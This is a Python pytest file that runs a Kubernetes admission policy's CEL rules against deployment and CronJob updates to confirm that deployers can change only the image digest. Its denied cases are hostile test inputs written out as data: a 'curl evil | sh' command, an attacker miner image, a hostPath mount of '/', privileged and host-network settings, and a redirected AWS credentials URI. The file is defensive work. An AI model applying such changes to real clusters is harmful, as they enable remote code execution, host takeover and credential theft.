"""The deployers' admission policy, evaluated as the API server would: its own CEL
(match conditions, variables, validations) run by a CEL interpreter against the planned
Rollout and drift CronJob as they are, and as delivery or an attacker holding the deploy
role would change them. A failing or erroring expression denies, as failurePolicy Fail."""

import copy
from collections.abc import Callable
from typing import Any

import celpy
import pytest

from tests.infra.conftest import Plan

DIGEST = "sha256:" + "a" * 64
Change = Callable[[dict[str, Any], str], None]


class Admission:
    """One ValidatingAdmissionPolicy, evaluated against an update."""

    def __init__(self, spec: dict[str, Any]) -> None:
        environment = celpy.Environment()

        def compile_(expression: str) -> Any:
            return environment.program(environment.compile(expression))

        self.conditions = [compile_(entry["expression"]) for entry in spec["matchConditions"]]
        self.variables = [
            (entry["name"], compile_(entry["expression"])) for entry in spec["variables"]
        ]
        self.validations = [
            (compile_(entry["expression"]), entry["message"]) for entry in spec["validations"]
        ]

    def decide(self, new: dict, old: dict, groups: list[str]) -> list[str] | None:
        """None when the policy does not apply; else the messages of failed validations."""
        activation: dict[str, Any] = {
            name: celpy.json_to_cel(value)
            for name, value in (
                ("object", new),
                ("oldObject", old),
                ("request", {"userInfo": {"username": "someone", "groups": groups}}),
            )
        }
        if not all(passes(condition, activation) for condition in self.conditions):
            return None
        activation["variables"] = celpy.celtypes.MapType(
            {
                celpy.celtypes.StringType(name): program.evaluate(activation)
                for name, program in self.variables
            }
        )
        return [message for program, message in self.validations if not passes(program, activation)]


def passes(program: Any, activation: dict[str, Any]) -> bool:
    """True only for a boolean true: an error (a missing field, say) denies."""
    try:
        result = program.evaluate(activation)
    except celpy.CELEvalError:
        return False
    return isinstance(result, celpy.celtypes.BoolType) and bool(result)


@pytest.fixture
def admission(plan: Plan) -> Admission:
    [policy] = plan.kubernetes("ValidatingAdmissionPolicy")
    return Admission(policy["spec"])


def current(plan: Plan, kind: str) -> dict[str, Any]:
    if kind == "Rollout":
        [rollout] = plan.kubernetes("Rollout")
        return rollout
    [drift] = [
        job for job in plan.kubernetes("CronJob") if job["metadata"]["name"].endswith("drift-job")
    ]
    return drift


def pod_spec(resource: dict[str, Any]) -> dict[str, Any]:
    if resource["kind"] == "Rollout":
        return resource["spec"]["template"]["spec"]
    return resource["spec"]["jobTemplate"]["spec"]["template"]["spec"]


def set_image(resource: dict, repository: str) -> None:
    pod_spec(resource)["containers"][0]["image"] = f"{repository}@{DIGEST}"


def undo_with_server_defaults(resource: dict, repository: str) -> None:
    """`kubectl argo rollouts undo`: an older image, in the template as its ReplicaSet
    holds it, with the API server's defaults filled in."""
    set_image(resource, repository)
    container = pod_spec(resource)["containers"][0]
    for port in container.get("ports", []):
        port.setdefault("protocol", "TCP")
    for variable in container.get("env", []):
        if "fieldRef" in variable.get("valueFrom", {}):
            variable["valueFrom"]["fieldRef"].setdefault("apiVersion", "v1")
    container["terminationMessagePath"] = "/dev/termination-log"
    pod_spec(resource)["dnsPolicy"] = "ClusterFirst"


ALLOWED: dict[str, Change] = {"set image": set_image, "undo": undo_with_server_defaults}


def image(reference: str) -> Change:
    def change(resource: dict, repository: str) -> None:
        pod_spec(resource)["containers"][0]["image"] = reference.format(repository=repository)

    return change


def in_container(field: str, value: Any) -> Change:
    def change(resource: dict, repository: str) -> None:
        set_image(resource, repository)
        pod_spec(resource)["containers"][0][field] = value

    return change


def in_pod(field: str, value: Any) -> Change:
    def change(resource: dict, repository: str) -> None:
        set_image(resource, repository)
        pod_spec(resource)[field] = value

    return change


def without_in_pod(field: str) -> Change:
    def change(resource: dict, repository: str) -> None:
        set_image(resource, repository)
        del pod_spec(resource)[field]

    return change


def with_env(name: str, value: str) -> Change:
    def change(resource: dict, repository: str) -> None:
        set_image(resource, repository)
        environment = pod_spec(resource)["containers"][0].setdefault("env", [])
        existing = [variable for variable in environment if variable["name"] == name]
        if existing:
            existing[0]["value"] = value
        else:
            environment.append({"name": name, "value": value})

    return change


def host_port(resource: dict, repository: str) -> None:
    set_image(resource, repository)
    pod_spec(resource)["containers"][0]["ports"] = [{"containerPort": 22, "hostPort": 22}]


def add_volume(resource: dict, repository: str) -> None:
    set_image(resource, repository)
    pod_spec(resource)["volumes"].append({"name": "host", "hostPath": {"path": "/"}})


def skip_the_canary(resource: dict, repository: str) -> None:
    set_image(resource, repository)
    resource["spec"]["strategy"]["canary"]["steps"] = []


DENIED: dict[str, tuple[Change, str]] = {
    "another registry": (image("docker.io/attacker/miner@" + DIGEST), "images must be digests"),
    "a tag": (image("{repository}:latest"), "images must be digests"),
    "privileged": (
        in_container("securityContext", {"privileged": True}),
        "container images only",
    ),
    "other command": (in_container("command", ["sh", "-c", "curl evil | sh"]), "images only"),
    "other args": (in_container("args", ["serve", "--debug"]), "container images only"),
    "new variable": (with_env("AWS_CONTAINER_CREDENTIALS_FULL_URI", "http://x"), "images only"),
    "host port": (host_port, "container images only"),
    "host path volume": (add_volume, "identity, security or volumes"),
    "host network": (in_pod("hostNetwork", True), "identity, security or volumes"),
    "no pod security context": (without_in_pod("securityContext"), "identity, security"),
    "init container": (
        in_pod("initContainers", [{"name": "x", "image": "busybox"}]),
        "identity, security or volumes",
    ),
}


def decision(
    plan: Plan, admission: Admission, kind: str, change: Change, groups: list[str] | None = None
) -> list[str] | None:
    """The policy's answer to `change` made to the planned `kind`, by the deployers unless
    `groups` says who."""
    old = current(plan, kind)
    new = copy.deepcopy(old)
    change(new, plan.exports["repositoryUrl"])
    return admission.decide(new, old, groups or [deployers_group_of(plan)])


@pytest.mark.parametrize("kind", ["Rollout", "CronJob"])
@pytest.mark.parametrize("change", ALLOWED, ids=list(ALLOWED))
def test_delivery_changes_are_admitted(
    plan: Plan, admission: Admission, kind: str, change: str
) -> None:
    assert decision(plan, admission, kind, ALLOWED[change]) == []


@pytest.mark.parametrize("kind", ["Rollout", "CronJob"])
@pytest.mark.parametrize("change", DENIED, ids=list(DENIED))
def test_anything_beyond_an_image_in_the_repository_is_denied(
    plan: Plan, admission: Admission, kind: str, change: str
) -> None:
    mutate, message = DENIED[change]
    denied = decision(plan, admission, kind, mutate)
    assert denied and any(message in entry for entry in denied), denied


def test_the_canary_strategy_is_not_the_deployers_to_change(
    plan: Plan, admission: Admission
) -> None:
    assert decision(plan, admission, "Rollout", skip_the_canary) == [
        "deployers may not change the canary strategy"
    ]


def test_only_the_deployers_are_held_to_it(plan: Plan, admission: Admission) -> None:
    assert decision(plan, admission, "Rollout", add_volume, ["system:masters"]) is None


def test_it_covers_updates_of_rollouts_and_cronjobs_in_the_app_namespace(plan: Plan) -> None:
    [policy] = plan.kubernetes("ValidatingAdmissionPolicy")
    [binding] = plan.kubernetes("ValidatingAdmissionPolicyBinding")
    namespace = plan.kubernetes("Namespace")[0]["metadata"]["name"]
    rules = policy["spec"]["matchConstraints"]["resourceRules"]

    assert {(rule["apiGroups"][0], rule["resources"][0]) for rule in rules} == {
        ("argoproj.io", "rollouts"),
        ("batch", "cronjobs"),
    }
    assert all(rule["operations"] == ["UPDATE"] for rule in rules)
    assert policy["spec"]["failurePolicy"] == "Fail"
    assert binding["spec"]["policyName"] == policy["metadata"]["name"]
    assert binding["spec"]["validationActions"] == ["Deny"]
    assert binding["spec"]["matchResources"]["namespaceSelector"]["matchLabels"] == {
        "kubernetes.io/metadata.name": namespace
    }


def deployers_group_of(plan: Plan) -> str:
    [binding] = [
        binding
        for binding in plan.kubernetes("RoleBinding")
        if binding["metadata"]["name"].endswith("-deployer")
    ]
    [subject] = binding["subjects"]
    return subject["name"]
